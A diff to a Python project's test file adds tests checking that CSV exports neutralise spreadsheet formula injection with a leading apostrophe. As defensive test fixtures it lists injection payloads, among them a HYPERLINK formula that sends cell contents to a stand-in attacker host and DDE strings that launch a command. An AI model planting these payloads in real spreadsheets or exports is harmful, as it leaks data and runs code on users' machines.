@@ -21,6 +21,7 @@ from lif_core.plugins.host import load_plugins
 from lif_core.policies import run_policies
 from projections import TABLES, export_table, project
 from projections import api as projections_api
+from projections.api import neutralise_cell
 
 SOURCES = ("action-plans", "learning-log", "practice-reviews", "performance")
 
@@ -76,7 +77,9 @@ def test_csv_gives_back_every_table(populated: Store, tmp_path: Path) -> None:
         with out.open(newline="", encoding="utf-8") as handle:
             header, *body = list(csv.reader(handle))
         assert header == [c.name for c in spec.columns]
-        assert body == [["" if v is None else str(v) for v in row] for row in rows], table
+        assert body == [
+            ["" if v is None else str(neutralise_cell(v)) for v in row] for row in rows
+        ], table
 
 
 def test_parquet_gives_back_every_table_with_its_types(populated: Store, tmp_path: Path) -> None:
@@ -176,3 +179,60 @@ def test_lif_export_writes_the_file(populated: Store, store_url: str, tmp_path: 
     rows = _stored(populated, "learning_register")
     assert f"wrote {len(rows)} rows" in result.output
     assert pq.read_table(out).num_rows == len(rows)
+
+
+INJECTIONS = {
+    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+}
+
+
+@pytest.mark.parametrize("lead", list(INJECTIONS))
+def test_an_exported_csv_with_injected_text_opens_as_text(
+    tmp_path: Path, lead: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Text from a decision (an action's description) that a spreadsheet would run as a formula
+    is written with a leading apostrophe; ``--raw-cells`` writes it as stored."""
+    from lif_core.decisions import create, declaration
+
+    url = f"sqlite:///{tmp_path / 'lif.db'}"
+    injected = INJECTIONS[lead]
+    with Store(url) as store:
+        arguments = {"description": injected, "owner_agency": "-Police", "due": "2025-09-30"}
+        create(store, declaration("action", "raise"), arguments, actor="chair")
+        project(store)
+    monkeypatch.setenv("LIF_PLUGINS_THIRD_PARTY", "0")
+    out = tmp_path / "actions.csv"
+    result = CliRunner().invoke(
+        app, ["--store", url, "export", "action_status", "--format", "csv", "--out", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == 1
+    assert rows[0]["description"] == "'" + injected
+    assert rows[0]["owner_agency"] == "'-Police"
+    # Numbers stay numbers: the count of reschedules is written as 0, not '0.
+    assert rows[0]["times_rescheduled"] == "0"
+    raw = tmp_path / "raw.csv"
+    result = CliRunner().invoke(
+        app,
+        ["--store", url, "export", "action_status", "--out", str(raw), "--raw-cells"],
+    )
+    assert result.exit_code == 0, result.output
+    with raw.open(newline="", encoding="utf-8") as handle:
+        assert next(csv.DictReader(handle))["description"] == injected
+
+
+def test_numbers_and_plain_text_are_written_as_they_are() -> None:
+    assert neutralise_cell(-3) == -3
+    assert neutralise_cell(-2.5) == -2.5
+    assert neutralise_cell("-12.5") == "-12.5"  # a number in a text column is still a number
+    assert neutralise_cell("+44") == "+44"
+    assert neutralise_cell("-") == "'-"
+    assert neutralise_cell("Police") == "Police"
+    assert neutralise_cell(None) is None
